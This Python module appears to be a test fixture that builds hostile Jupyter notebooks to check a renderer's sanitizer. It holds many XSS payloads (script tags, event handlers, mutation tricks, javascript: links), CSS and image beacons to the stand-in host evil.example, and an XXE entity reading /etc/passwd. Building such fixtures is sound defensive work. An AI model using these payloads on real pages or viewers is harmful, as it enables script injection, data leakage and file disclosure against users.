"""Hostile notebooks: each tries to run something in, or to tell somebody about, a reader's browser.

``MARKDOWN`` are sources of Markdown cells, ``OUTPUTS`` are mime bundles, ``NOTEBOOKS`` are whole ones
whose other fields lie. All of them call ``alert`` or refer to ``evil.example``.
"""

# ruff: noqa: E501 (an attack is easier to read on one line)

from __future__ import annotations

import base64
from typing import Any

import nbformat

EVIL = "https://evil.example/x"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><image href="{EVIL}"/></svg>'

MARKDOWN = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=https://evil.example/x></SCRIPT>",
    "script that is not closed": "<script>alert(1)",
    "script taken apart": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "handler on an image": "<img src=x onerror=alert(1)>",
    "handler on an unknown tag": "<x onclick=alert(1) onpointerenter=alert(1) tabindex=0>x</x>",
    "handler with a slash": "<img/src=x/onerror=alert(1)>",
    "handler after a null": "<img src=x on\0error=alert(1)>",
    "details that open": "<details open ontoggle=alert(1)>x</details>",
    "body handler": "<body onload=alert(1)>",
    "svg": SVG,
    "svg animation": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>',
    "foreign object": "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "math": '<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>',
    "math link": '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x',
    "mutation by a table": "<table><style><img src=x onerror=alert(1)></style></table>",
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation by a comment": "<!--><img src=x onerror=alert(1)>-->",
    "mutation by a title": "<title><a title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "mutation by a text area": "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "iframe": '<iframe src="https://evil.example/x"></iframe>',
    "iframe with a document": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": '<embed src="https://evil.example/x.svg">',
    "form": '<form action="https://evil.example/x"><input name=password autofocus onfocus=alert(1)></form>',
    "button elsewhere": '<button formaction="javascript:alert(1)">x</button>',
    "base": '<base href="https://evil.example/"><a href="x">x</a>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/x">',
    "weaker policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "style sheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "prefetch": '<link rel="dns-prefetch" href="https://evil.example">',
    "style element": "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/x)}</style>",
    "style attribute": '<p style="background:url(https://evil.example/x)">x</p>',
    "style with escapes": '<p style="background:u\\72l(https://evil.example/x)">x</p>',
    "style that covers the page": '<a href="https://a.example" style="position:fixed;inset:0;opacity:0">x</a>',
    "style by image-set": "<p style=\"background-color:image-set('https://evil.example/x' 1x)\">x</p>",
    "remote image": "![secret](https://evil.example/x.png)",
    "remote image in HTML": '<img src="//evil.example/x.png" srcset="https://evil.example/x 2x" alt="chart">',
    "image on the same server": "![x](/datastore_server/x?sessionID=1) <img src='../x.png'>",
    "background attribute": '<table background="https://evil.example/x"><tr><td background="https://evil.example/x">x',
    "video": '<video src="https://evil.example/x" poster="https://evil.example/x"><source src=x onerror=alert(1)></video>',
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in disguise": "[x](java&#115;cript:alert(1)) <a href=' java\tscript:alert(1)'>x</a>",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "data link": f"[x](data:text/html;base64,{b64('<script>alert(1)</script>')})",
    "link on the same server": "[x](/openbis/logout) <a href='?sessionID=x'>x</a>",
    "link with a password": "[x](https://user:password@evil.example/)",
    "reference link": "[x]\n\n[x]: javascript:alert(1)",
    "autolink": "<javascript:alert(1)> <data:text/html,x>",
    "ping": '<a href="https://a.example" ping="https://evil.example/x">x</a>',
    "svg data image with script": f"![x](data:image/svg+xml;base64,{b64(SVG)})",
    "html as an image": f"![x](data:image/png;base64,{b64('<script>alert(1)</script>')})",
    "html data image": "![x](data:text/html,<script>alert(1)</script>)",
    "missing attachment": "![x](attachment:nowhere.png)",
    "title breaks out": '![x](data:image/png;base64,AA "\\" onerror=alert(1) x=\\"")',
    "alt breaks out": '![" onerror=alert(1) x="](https://evil.example/x)',
    "name that clobbers": '<a id=cookie name=body href="https://a.example">x</a><img name=getElementById>',
    "maths with a link": r"$\href{javascript:alert(1)}{x}$",
    "maths with HTML": r"$\text{<img src=x onerror=alert(1)>}$ $$\unicode{<script>alert(1)</script>}$$",
    "maths with a style": r"$\style{background:url(https://evil.example/x)}{x}$ $\class{x}{y}$",
    "maths with a colour": r'$\color{red" onclick="alert(1)}{x}$',
    "maths in an attribute": '<a title="$x$" href="https://a.example">x</a> <a title="\n$$\\text{<b>}$$\n">y</a>',
    "maths environment": r"\begin{equation}<script>alert(1)</script>\end{equation}",
    "endless macro": r"$\def\x{\x\x}\x$ " + "$" + "{" * 400 + "x" + "}" * 400 + "$",
    "code fence language": '```"><script>alert(1)</script>\ncode\n```',
    "mermaid": "```mermaid\ngraph LR\nclick A \"javascript:alert(1)\"\n```",
    "template element": "<template><img src=x onerror=alert(1)></template>",
    "portal and fencedframe": '<portal src="https://evil.example"></portal><fencedframe src="https://evil.example">',
    "custom element": '<x-a is="script" src="https://evil.example/x">x</x-a>',
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "dialog": "<dialog open><form method=dialog action=javascript:alert(1)><button>x</button></form></dialog>",
    "placeholder of ours": "nb0000000000000000-0- nb-0-",
    "link to the page around": '<a href="https://evil.example/x" target="_top">x</a> <a href="https://evil.example/x" target="_parent" rel="opener">y</a>',
    "base for all links": '<base target="_top" href="https://evil.example/"> [x](https://a.example)',
    "image map": '<map name=m><area shape=default href="javascript:alert(1)"></map><img usemap="#m" src="https://evil.example/x">',
    "popover": '<button popovertarget=p>x</button><div id=p popover style="inset:0;width:100%;height:100%">y</div>',
    "access key": '<a accesskey="x" href="javascript:alert(1)" onclick=alert(1)>x</a><p contenteditable oninput=alert(1)>y</p>',
    "style that covers by size": '<div style="position:absolute;top:-999px;left:-999px;width:9999px;height:9999px;z-index:2147483647;margin:-999px">x</div>',
    "style that grows out": '<p style="transform:scale(99);zoom:99;font-size:99999px;animation:x 1s">x</p>',
    "class of ours": '<p class="nb-hidden nb-cell removed nb-lines">x</p><td class="nb-ins">y</td>',
    "MathJax configuration": '<script type="text/x-mathjax-config">MathJax.Hub.Config({x: alert(1)})</script>$$\\require{action}\\toggle{a}{b}\\endtoggle\\href{javascript:alert(1)}{c}$$',
    "MathJax macros with HTML": r"$\mathchoice{\cssId{x}{\style{position:fixed}{y}}}{}{}{}$ \(\unicode{x3c}script\unicode{x3e}alert(1)\)",
    "command of JupyterLab": '<button data-commandlinker-command="runmenu:run-all" data-commandlinker-args="{}">Click</button>',
    "frame by name": '<iframe name="top"></iframe><a id=location name=parent href="https://a.example">x</a><form id=document name=self>',
    "refresh in a body": '<body><meta http-equiv=refresh content="0; url=javascript:alert(1)"><meta http-equiv="set-cookie" content="a=b">',
    "speculation rules": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.example/x"]}]}</script>',
    "import map": '<script type=importmap>{"imports":{"x":"https://evil.example/x"}}</script><script type=module>import "x"</script>',
    "shadow root": '<div><template shadowrootmode=open><img src=x onerror=alert(1)><style>@import "//evil.example/x"</style></template></div>',
}  # fmt: skip

OUTPUTS: dict[str, dict[str, Any]] = {
    "html script": {"text/html": "<script>alert(1)</script><b>bold</b>"},
    "html handler": {"text/html": "<div onmouseover=alert(1)>x</div>"},
    "html document": {"text/html": "<!DOCTYPE html><html><head><base href=//evil.example></head><body onload=alert(1)>"},
    "html with a frame": {"text/html": f"<iframe src='{EVIL}' width=100%></iframe>"},
    "html that ends ours": {"text/html": "</div></section></main></body><script>alert(1)</script>"},
    "html comment that hides the rest": {"text/html": "<!-- <b>"},
    "html remote image": {"text/html": f"<img src='{EVIL}' onload=alert(1)>"},
    "javascript": {"application/javascript": "alert(1)", "text/plain": "<IPython.core.display.Javascript object>"},
    "plotly": {"text/html": f"<div id=a></div><script src='{EVIL}'></script>", "application/vnd.plotly.v1+json": {}},
    "bokeh": {"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": "alert(1)"},
    "widget": {"application/vnd.jupyter.widget-view+json": {"model_id": "<script>alert(1)</script>"}},
    "vega": {"application/vnd.vegalite.v5+json": {"data": {"url": EVIL}}},
    "svg with a script": {"image/svg+xml": SVG},
    "svg that is HTML": {"image/svg+xml": "<html><script>alert(1)</script></html>"},
    "svg bomb": {"image/svg+xml": '<!DOCTYPE svg [<!ENTITY a "aaa"><!ENTITY b "&a;&a;">]><svg>&b;</svg>'},
    "svg that reads a file": {"image/svg+xml": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'},
    "png that is HTML": {"image/png": b64("<script>alert(1)</script>")},
    "png that breaks out": {"image/png": '"><script>alert(1)</script>'},
    "jpeg that is a png": {"image/jpeg": b64("\x89PNG")},
    "picture with an alt that breaks out": {
        "image/png": "iVBORw0KGgo=",
        "text/plain": '"><script>alert(1)</script>',
    },
    "markdown output": {"text/markdown": "<img src=x onerror=alert(1)> [x](javascript:alert(1))"},
    "latex output": {"text/latex": r"$\href{javascript:alert(1)}{<script>alert(1)</script>}$"},
    "plain text": {"text/plain": "<script>alert(1)</script>"},
    "json": {"application/json": {"<script>": "</pre><script>alert(1)</script>"}},
    "unknown type": {"<script>alert(1)</script>": "x"},
    "lists instead of text": {"text/html": ["<scr", "ipt>alert(1)</script>"]},
    "numbers instead of text": {"text/html": 5, "image/png": {"a": 1}},
    "pdf": {"application/pdf": b64("%PDF-1.4 /JS (alert(1))")},
    "geo": {"application/geo+json": {}, "text/plain": "<GeoJSON>"},
    "widget state": {"application/vnd.jupyter.widget-view+json": {"model_id": "a"}, "text/html": "<script type='application/vnd.jupyter.widget-state+json'>{}</script><script src=https://evil.example/x></script>"},
    "table that breaks out": {"text/html": "<table><tr><td></table></td><script>alert(1)</script>", "text/plain": "<b>"},
    "latex macros": {"text/latex": r"$$\def\a{\href{javascript:alert(1)}{x}}\a$$"},
    "text that looks like marks": {"text/plain": "</ins></del></td></tr></table><script>alert(1)</script>"},
}  # fmt: skip


def _code(**fields: Any) -> dict[str, Any]:
    return {
        "cell_type": "code",
        "id": "a",
        "metadata": {},
        "source": "",
        "outputs": [],
        "execution_count": None,
    } | fields


def _notebook(*cells: dict[str, Any], **metadata: Any) -> dict[str, Any]:
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": list(cells)}


ANSI = (
    '\x1b[31m<script>alert(1)</script>\x1b[0m\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07\x1b[38;5;1"><b>m'
)
NOTEBOOKS: dict[str, dict[str, Any]] = {
    "source": _notebook(_code(source="</pre><script>alert(1)</script>")),
    "terminal colours": _notebook(_code(outputs=[{"output_type": "stream", "name": "stdout", "text": ANSI}])),
    "stream name": _notebook(
        _code(outputs=[{"output_type": "stream", "name": '"><script>alert(1)</script>', "text": "x"}])
    ),
    "traceback": _notebook(
        _code(outputs=[{"output_type": "error", "ename": "<b>", "evalue": "<b>", "traceback": [ANSI]}])
    ),
    "no traceback": _notebook(
        _code(
            outputs=[
                {"output_type": "error", "ename": "<script>alert(1)</script>", "evalue": "", "traceback": []}
            ]
        )
    ),
    "raw cell": _notebook(
        {
            "cell_type": "raw",
            "id": "a",
            "metadata": {"format": "text/html"},
            "source": "<script>alert(1)</script>",
        }
    ),
    "language": _notebook(_code(source="x"), language_info={"name": '"><script>alert(1)</script>'}),
    "language that is no text": _notebook(_code(source="x"), language_info=["a"], kernelspec=5),
    "execution count": _notebook(_code(source="x", execution_count="<script>alert(1)</script>")),
    "attachment that lies": _notebook(
        {
            "cell_type": "markdown",
            "id": "a",
            "metadata": {},
            "source": "![x](attachment:a%20b.png)",
            "attachments": {
                "a b.png": {"image/png": b64("<script>alert(1)</script>"), "text/html": "<script>"}
            },
        }
    ),
    "unknown output": _notebook(_code(outputs=[{"output_type": "<script>alert(1)</script>"}])),
    "half a character": _notebook(_code(source="\ud83d<script>alert(1)</script>")),
}


def all_notebooks() -> dict[str, Any]:
    """Every hostile notebook by name."""
    made: dict[str, Any] = {}
    for name, source in MARKDOWN.items():
        cell = {"cell_type": "markdown", "id": "a", "metadata": {}, "source": source}
        made[f"markdown: {name}"] = _notebook(cell)
    for name, data in OUTPUTS.items():
        shown = {"output_type": "display_data", "metadata": {}, "data": data}
        made[f"output: {name}"] = _notebook(_code(outputs=[shown]))
    made |= {f"notebook: {name}": notebook for name, notebook in NOTEBOOKS.items()}
    return {name: nbformat.from_dict(notebook) for name, notebook in made.items()}
